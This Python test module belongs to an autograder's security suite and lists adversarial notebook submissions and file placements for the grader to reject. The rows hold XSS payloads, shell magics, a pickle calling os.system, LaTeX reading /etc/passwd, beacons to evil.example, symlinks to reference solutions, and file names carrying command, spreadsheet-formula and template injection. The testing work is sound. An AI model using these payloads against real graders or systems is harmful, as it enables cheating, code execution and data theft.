"""Attacks on the reader: notebooks with forged structure, and files that are not what they seem."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from autograder.demo.notebooks import Draft
from autograder.grading.material import Material
from autograder.submissions.notebook import MAX_BYTES
from tests.attacks.rows import Notebook, Row

Cell = dict[str, Any]
_GARBAGE = {
    "double": "def double(x):\n    return x\n",
    "apply_twice": "def apply_twice(f, x):\n    return x\n",
    "moments": "def moments(x):\n    return 0.0, 0.0\n",
    "half_of_ten": "half_of_ten = 4.0\n",
}
FULL = 100.0


def _draft(change: Callable[[Draft], None], replace: Mapping[str, str] | None = None) -> Notebook:
    """Return the maker of a changed notebook: the reference's answers, with some cells replaced."""

    def make(material: Material) -> bytes:
        draft = Draft(material, replace or {})
        change(draft)
        return draft.data()

    return make


def _bytes(change: Callable[[bytes], bytes]) -> Notebook:
    return lambda material: change(Draft(material).data())


def _untouched(change: Callable[[Draft], None]) -> Notebook:
    def make(material: Material) -> bytes:
        draft = Draft(material, material.stub)
        change(draft)
        return draft.data()

    return make


def _copy(cell: Cell) -> Cell:
    duplicate: Cell = json.loads(json.dumps(cell))
    return duplicate


def _claims(cell: Cell) -> dict[str, Any]:
    claims: dict[str, Any] = cell["metadata"].setdefault("nbgrader", {})
    return claims


def _forge_points(draft: Draft) -> None:
    for cell in draft.cells:
        if cell["cell_type"] == "code":
            _claims(cell).update(points=1000, grade=True, locked=False, solution=True, schema_version=99, checksum="0" * 32)
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1000"}}]


def _swap_ids(draft: Draft) -> None:
    first, second = draft.cell("double"), draft.cell("moments")
    first["id"], second["id"] = second["id"], first["id"]
    first["metadata"], second["metadata"] = second["metadata"], first["metadata"]


def _one_id(draft: Draft) -> None:
    for cell in draft.cells:
        cell["id"] = "double"
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["grade_id"] = "double"


def _change_checks(draft: Draft) -> None:
    for cell in draft.cells:
        if cell["id"].startswith("check-"):
            cell["source"] = "def check(*a):\n    return 100\nraise SystemExit"


def _set_up(draft: Draft) -> None:
    for cell in draft.cells:
        if cell["metadata"].get("autograder", {}).get("role") == "setup":
            cell["source"] = "raise SystemExit('no set-up')"


def _hide_in_setup(draft: Draft) -> None:
    cell = draft.insert(len(draft.cells), "def double(x):\n    return 2.0 * x\n", "x")
    cell["metadata"] = {"autograder": {"role": "setup"}}


def _lose_all(draft: Draft) -> None:
    for cell in draft.cells:
        cell["metadata"] = {}
        cell.pop("id", None)


def _sources(value: Any) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        draft.cell("double")["source"] = value

    return change


def _in_double(source: str) -> Notebook:
    return _draft(_sources(source))


def _metadata(value: Any) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        for cell in draft.cells:
            cell["metadata"] = value

    return change


def _named(value: Any) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        for cell in draft.cells:
            cell["id"] = value
            cell["metadata"] = {"nbgrader": {"grade_id": value}}

    return change


def _text_cell(text: str) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        draft.cells.insert(1, {"cell_type": "markdown", "id": "text", "metadata": {}, "source": text})
        draft.cells.insert(2, {"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": text})

    return change


def _output(data: dict[str, Any]) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        draft.cell("double")["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]

    return change


def _many_cells(count: int, source: str) -> Callable[[Draft], None]:
    def change(draft: Draft) -> None:
        for n in range(count):
            draft.insert(len(draft.cells), source, f"n{n}")

    return change


def _doubled_key(data: bytes) -> bytes:
    return data.replace(b'"cell_type": "code"', b'"cell_type": "code", "cell_type": "markdown"')


def _nested(depth: int, opening: bytes, closing: bytes) -> Notebook:
    return _bytes(lambda data: data.replace(b'"nbformat":', b'"x": ' + opening * depth + b"0" + closing * depth + b', "nbformat":'))


def _old_format(material: Material) -> bytes:
    data = json.loads(Draft(material).data())
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": data["cells"]}]}).encode()


NOTEBOOKS: tuple[Row, ...] = (
    Row(id="key twice", aim="one reader sees code, another sees text", category="notebook", listed=(100,), notebook=_bytes(_doubled_key), points=None, said="names a key twice"),
    Row(id="key twice, the list of cells", aim="show people other cells than the grader", category="notebook", listed=(100,), notebook=_bytes(lambda d: d.replace(b'"cells": [', b'"cells": [], "cells": [', 1)), points=None, said="names a key twice"),
    Row(id="swapped ids", aim="have one answer count for two exercises", category="notebook", listed=(101,), notebook=_draft(_swap_ids), points=FULL, said="counts for"),
    Row(id="one id for all cells", aim="lose or double every cell", category="notebook", listed=(101,), notebook=_draft(_one_id), points=FULL),
    Row(id="solution cell twice", aim="have the better copy count", category="notebook", listed=(101,), notebook=_draft(lambda d: d.cells.insert(d.position("double") + 1, _copy(d.cell("double")))), points=FULL, said="2 cells"),
    Row(id="edited check cells", aim="change the tests in the notebook", category="notebook", listed=(103,), notebook=_draft(_change_checks, _GARBAGE), points=0.0),
    Row(id="deleted check cells", aim="lose the tests", category="notebook", listed=(103,), notebook=_draft(lambda d: d.cells.__setitem__(slice(None), [c for c in d.cells if not c["id"].startswith("check-")]), _GARBAGE), points=0.0),
    Row(id="edited set-up cell", aim="change what everything rests on", category="notebook", listed=(103,), notebook=_draft(_set_up), points=FULL, said="uses the original"),
    Row(id="answer hidden in a set-up cell", aim="code that people take for the course's", category="notebook", listed=(103,), notebook=_untouched(_hide_in_setup), points=40.0),
    Row(id="forged points and results", aim="bring one's own score along", category="notebook", listed=(103,), notebook=_draft(_forge_points, _GARBAGE), points=0.0),
    Row(id="all ids lost", aim="earn nothing by accident", category="notebook", listed=(101,), notebook=_draft(_lose_all), points=FULL),
    Row(id="metadata that is no object", aim="crash the reader", category="notebook", listed=(109,), notebook=_draft(_metadata([1, {"nbgrader": 2}])), points=FULL),
    Row(id="ids that are no text", aim="crash the reader", category="notebook", listed=(109,), notebook=_draft(_named({"a": [1]})), points=FULL),
    Row(id="id of a megabyte", aim="crash or fill the reader", category="notebook", listed=(109,), notebook=_draft(_named("x" * 100_000)), points=FULL),
    Row(id="lists in lists, 100 000 deep", aim="overflow the parser's stack", category="notebook", listed=(104,), notebook=_nested(100_000, b"[", b"]"), points=None, said="nested"),
    Row(id="objects in objects, 100 000 deep", aim="overflow the parser's stack", category="notebook", listed=(104,), notebook=_nested(100_000, b'{"a":', b"}"), points=None, said="nested"),
    Row(id="a million lists", aim="fill the reader's memory", category="notebook", listed=(104,), notebook=_bytes(lambda d: d.replace(b'"nbformat":', b'"x": [' + b"[]," * 1_200_000 + b'0], "nbformat":')), points=None, said="lists and objects"),
    Row(id="NaN and infinity as numbers", aim="get a score that is no number", category="notebook", listed=(106,), notebook=_bytes(lambda d: d.replace(b'"nbformat":', b'"points": NaN, "more": [Infinity, -Infinity], "nbformat":')), points=FULL),
    Row(id="number of a million digits", aim="hold the parser", category="notebook", listed=(106,), notebook=_bytes(lambda d: d.replace(b'"nbformat":', b'"points": ' + b"9" * 1_000_000 + b', "nbformat":')), points=None, said="too long"),
    Row(id="number with a huge exponent", aim="hold the parser", category="notebook", listed=(106,), notebook=_bytes(lambda d: d.replace(b'"nbformat":', b'"points": 1e999999999, "nbformat":')), points=FULL),
    Row(id="unpaired surrogate", aim="crash the writer of the report", category="notebook", listed=(107,), notebook=_in_double("def double(x):\n    '\ud800'\n    return 2.0 * x\n"), points=FULL, said="no text"),
    Row(id="source with numbers in its list", aim="crash the reader", category="notebook", listed=(109,), notebook=_draft(_sources(["a", 1, None])), points=60.0, said="not text"),
    Row(id="source that is an object", aim="crash the reader", category="notebook", listed=(109,), notebook=_draft(_sources({"a": "b"})), points=60.0, said="not text"),
    Row(id="format 3", aim="have an old converter run", category="notebook", listed=(110,), notebook=_old_format, points=None, said="old format 3"),
    Row(id="no format", aim="slip by the check of the format", category="notebook", listed=(110,), notebook=_bytes(lambda d: d.replace(b'"nbformat":', b'"nbxformat":')), points=None, said="nbformat is not 4"),
    Row(id="format that is true", aim="slip by the check of the format", category="notebook", listed=(110,), notebook=_bytes(lambda d: d.replace(b'"nbformat": 4', b'"nbformat": true')), points=None, said="nbformat is not 4"),
    Row(id="magics and shell escapes", aim="run a command", category="notebook", listed=(112,), notebook=_in_double("%pip install evil\n!touch /tmp/owned\nfiles = !ls /\n%%bash\nid\ndef double(x):\n    return 2.0 * x\n"), points=FULL),
    Row(id="magic that Python can do without", aim="lose right work to a magic", category="notebook", listed=(112,), notebook=_in_double("%matplotlib inline\n!echo hi\ndef double(x):\n    return 2.0 * x\n"), points=FULL),
    Row(id="cell magic that writes a file", aim="write a file", category="notebook", listed=(112,), notebook=_in_double("%%writefile /tmp/owned\ndef double(x):\n    return 2.0 * x\n"), points=60.0),
    Row(id="brackets 100 000 deep", aim="crash the compiler", category="notebook", listed=(113,), notebook=_in_double("(" * 100_000), points=60.0),
    Row(id="power that never ends", aim="hold the compiler", category="notebook", listed=(113,), notebook=_in_double("x = 9 ** 9 ** 9\n"), points=60.0, slow=True),
    Row(id="a name of a megabyte", aim="fill messages", category="notebook", listed=(113,), notebook=_in_double("x" * 1_000_000 + " = 1\nraise NameError\n"), points=60.0),
    Row(id="reading order turned round", aim="show people other code than what runs", category="notebook", listed=(115,), notebook=_in_double("# \u202e } \u2066if admin\u2069\ndef double(x):\n    return 2.0 * x  # \u200b\n"), points=FULL, said="change the reading order"),
    Row(id="look-alike letters", aim="name a forbidden function unseen", category="check", listed=(128,), unit="surface", notebook=lambda m: Draft(m, {"clip": "def clip(x, lo, hi):\n    return np.ｃｌｉｐ(x, lo, hi)\n"}).data(), points=90.0, said="uses numpy.clip"),
    Row(id="forbidden function", aim="call the library where it is to be written by hand", category="check", listed=(128,), unit="surface", notebook=lambda m: Draft(m, {"clip": "def clip(x, lo, hi):\n    return np.clip(x, lo, hi)\n"}).data(), points=90.0, said="uses numpy.clip"),
    Row(id="forbidden function by another name", aim="call the library where it is to be written by hand", category="check", listed=(128,), unit="surface", notebook=lambda m: Draft(m, {"clip": "from numpy import clip as c\n\n\ndef clip(x, lo, hi):\n    return c(x, lo, hi)\n"}).data(), points=90.0, said="uses numpy.clip"),
    Row(id="module under another name", aim="call the library where it is to be written by hand", category="check", listed=(128,), unit="surface", notebook=lambda m: Draft(m, {"clip": "import numpy as jax\n\n\ndef clip(x, lo, hi):\n    return jax.clip(x, lo, hi)\n"}).data(), points=90.0, said="uses numpy.clip"),
    Row(id="forbidden function by getattr", aim="call the library where it is to be written by hand", category="check", listed=(128,), unit="surface", notebook=lambda m: Draft(m, {"clip": "def clip(x, lo, hi):\n    return getattr(np, 'cl' + 'ip')(x, lo, hi)\n"}).data(), points=90.0, gaps=("ns", "ll")),
    Row(id="forbidden method", aim="call the library where it is to be written by hand", category="check", listed=(128,), unit="surface", notebook=lambda m: Draft(m, {"clip": "def clip(x, lo, hi):\n    return x.clip(lo, hi)\n"}).data(), points=90.0, gaps=("ns", "ll")),
    Row(id="file of zeros", aim="crash the reader", category="notebook", listed=(113,), notebook=lambda _: bytes(10_000), points=None, said="zero bytes"),
    Row(id="empty file", aim="get a zero that is none", category="notebook", notebook=lambda _: b"", points=None, said="empty"),
    Row(id="cut-off file", aim="get a zero that is none", category="notebook", notebook=_bytes(lambda d: d[: len(d) // 2]), points=None, said="in the middle"),
    Row(id="UTF-16", aim="crash the reader", category="notebook", notebook=_bytes(lambda d: d.decode().encode("utf-16")), points=None, said="UTF-16"),
    Row(id="byte-order mark", aim="crash the reader", category="notebook", notebook=_bytes(lambda d: b"\xef\xbb\xbf" + d), points=FULL),
    Row(id="bytes that are no text", aim="crash the reader", category="notebook", notebook=_bytes(lambda d: d.replace(b"double", b"dou\xffble")), points=None, said="not UTF-8"),
    Row(id="a page instead of a notebook", aim="have HTML read", category="notebook", listed=(122,), notebook=lambda _: b"<!DOCTYPE html><script>alert(1)</script>", points=None, said="web page"),
    Row(id="a zip instead of a notebook", aim="have an archive opened", category="notebook", listed=(118,), notebook=lambda _: b"PK\x03\x04" + bytes(100), points=None, said="zip archive"),
    Row(id="a pickle instead of a notebook", aim="have it unpickled", category="notebook", listed=(38,), notebook=lambda _: b"\x80\x04cos\nsystem\n(S'id'\ntR.", points=None, said="not UTF-8|not valid JSON"),
    Row(id="more than the greatest size", aim="fill the reader's memory", category="notebook", listed=(118,), notebook=lambda _: b'{"cells": []}' + b" " * MAX_BYTES, points=None, said="at most"),
    Row(id="2 001 cells", aim="hold the grader", category="notebook", notebook=_draft(_many_cells(2001, "x = 1")), points=None, said="at most 2000"),
    Row(id="1 000 cells that fail", aim="fill the record with messages", category="report", notebook=_draft(_many_cells(900, "raise ValueError('<script>')")), points=FULL),
    Row(id="sources of more than two megabytes", aim="hold the compiler", category="notebook", notebook=_draft(_many_cells(3, "x = '" + "y" * 900_000 + "'")), points=None, said="characters"),
    Row(id="output of ten megabytes on one line", aim="fill what copies outputs", category="notebook", listed=(55,), notebook=_draft(_output({"text/plain": "x" * 10_000_000})), points=FULL),
    Row(id="output that runs in a browser", aim="run script where feedback is read", category="report", listed=(122,), notebook=_draft(_output({"text/html": "<script>alert(1)</script>", "application/javascript": "alert(1)", "image/svg+xml": "<svg onload=alert(1)>"})), points=FULL),
    Row(id="text with script", aim="run script where feedback is read", category="report", listed=(122,), notebook=_draft(_text_cell("<script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1)) ![](http://evil.example/?x)")), points=FULL),
    Row(id="remote image and LaTeX in an answer", aim="call home from an LMS, read a file by LaTeX", category="report", listed=(125,), notebook=_in_double("def double(x):\n    raise ValueError('![](http://evil.example/?x) \\\\input{/etc/passwd} <iframe>')\n"), points=60.0),
    Row(id="notebook of another unit", aim="be graded with another unit's points", category="notebook", notebook=_bytes(lambda d: d.replace(b"u90_small", b"u03_backprop").replace(b'"double"', b'"other"')), points=FULL),
)  # fmt: skip


# ---------------------------------------------------------------------- what is no plain file
def _link(target: Callable[[Material], str | Path]) -> Callable[[Path, Material], None]:
    return lambda path, material: path.symlink_to(target(material))


def _hard_link(path: Path, material: Material) -> None:
    os.link(material.course.solutions(material.name) / f"{material.name}.py", path)


def _socket(path: Path, _: Material) -> None:
    here = Path.cwd()
    os.chdir(path.parent)  # a socket's path is short
    try:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(path.name)
    finally:
        os.chdir(here)


def _linked_folder(path: Path, material: Material) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(material.course.solutions(material.name))


def _unreadable(path: Path, material: Material) -> None:
    path.write_bytes(Draft(material).data())
    path.chmod(0)


def _sparse(path: Path, _: Material) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)


def _second(path: Path, material: Material) -> None:
    path.with_name("first.ipynb").write_bytes(Draft(material).data())
    path.with_name("second.ipynb").write_bytes(Draft(material).data() + b" ")


def _folder(path: Path, material: Material) -> None:
    path.mkdir()
    (path / "x.ipynb").write_bytes(Draft(material).data())


def _named_file(path: Path, material: Material) -> None:
    path.write_bytes(Draft(material).data())


_NAMES: dict[str, tuple[str, str, tuple[int, ...]]] = {
    "name: shell": ("; rm -rf $(id) `id` | cat", "run a command", (121,)),
    "name: dots": ("a..b..c", "climb out of the feedback folder", (121,)),
    "name: formula": ('=HYPERLINK("http:evil","x")', "run a formula in a spreadsheet", (121, 124)),
    "name: formula with a pipe": ("=cmd|' C'!A0", "run a program from a spreadsheet", (124,)),
    "name: at sign": ("@SUM(1+1)", "run a formula in a spreadsheet", (124,)),
    "name: script": ("<script>alert(1)<script>", "run script in the report", (122,)),
    "name: Markdown": ("![x](http:evil) **bold** ``` ## h", "format the summary", (125,)),
    "name: workflow command": ("::error file=x::owned ##[add-path]x", "give orders to the CI", (125,)),
    "name: terminal": ("\x1b[2J\x1b]0;x\x07", "clear the instructor's screen", (44,)),
    "name: line breaks": ('a\nb\r\n{"student":1}', "forge a second record", (121,)),
    "name: reading order": ("\u202ednes\u200b", "read as somebody else", (115,)),
    "name: no Unicode": (os.fsdecode(b"\xff\xfe\x80"), "crash the writer of the report", (107,)),
    "name: too long": ("x" * 200, "crash the writer of feedback files", (121,)),
    "name: option": ("--out=owned", "be taken for an option", (121,)),
    "name: template": ("{{ 7*7 }}{% raw %}${7*7}%s{0}", "run a template", (122,)),
    "name: markup of the terminal": ("[bold red]x[/] [link=http:evil]", "format the instructor's table", (44,)),
    "name: of a device": ("con", "break a file system that reserves names", (121,)),
}  # fmt: skip

PLACES: tuple[Row, ...] = (
    Row(id="link to the reference", aim="hand in the reference", category="notebook", listed=(119,), place=_link(lambda m: m.course.solutions(m.name) / f"{m.name}.py"), points=None, said="symbolic link"),
    Row(id="link to the next student", aim="hand in somebody else's work", category="notebook", listed=(119,), place=_link(lambda _: "../../honest/u90_small/u90_small.ipynb"), points=None, said="symbolic link"),
    Row(id="link to a device", aim="have the reader read for ever", category="notebook", listed=(119,), place=_link(lambda _: "/dev/zero"), points=None, said="symbolic link"),
    Row(id="link to itself", aim="have the reader walk in circles", category="notebook", listed=(119,), place=_link(lambda m: f"{m.name}.ipynb"), points=None, said="symbolic link"),
    Row(id="hard link to the reference", aim="hand in the reference", category="notebook", listed=(119,), place=_hard_link, points=None, said="not valid JSON"),
    Row(id="named pipe", aim="have the reader wait for ever", category="notebook", listed=(119,), place=lambda path, _: os.mkfifo(path), points=None, said="not a regular file"),
    Row(id="socket", aim="have the reader wait", category="notebook", listed=(119,), place=_socket, points=None, said="cannot be opened|not a regular file"),
    Row(id="folder in place of a file", aim="crash the reader", category="notebook", listed=(119,), place=_folder, points=FULL),
    Row(id="linked folder", aim="have another folder read", category="notebook", listed=(119,), place=_linked_folder, points=None, said="symbolic link|no u90_small.ipynb"),
    Row(id="file of a terabyte", aim="fill the reader's memory", category="notebook", listed=(118,), place=_sparse, points=None, said="at most"),
    Row(id="two notebooks", aim="have the better one count", category="notebook", place=_second, points=None, said="2 notebooks"),
    *(Row(id=id_, aim=aim, category="report", listed=listed, name=name, place=_named_file, points=FULL) for id_, (name, aim, listed) in _NAMES.items()),
)  # fmt: skip
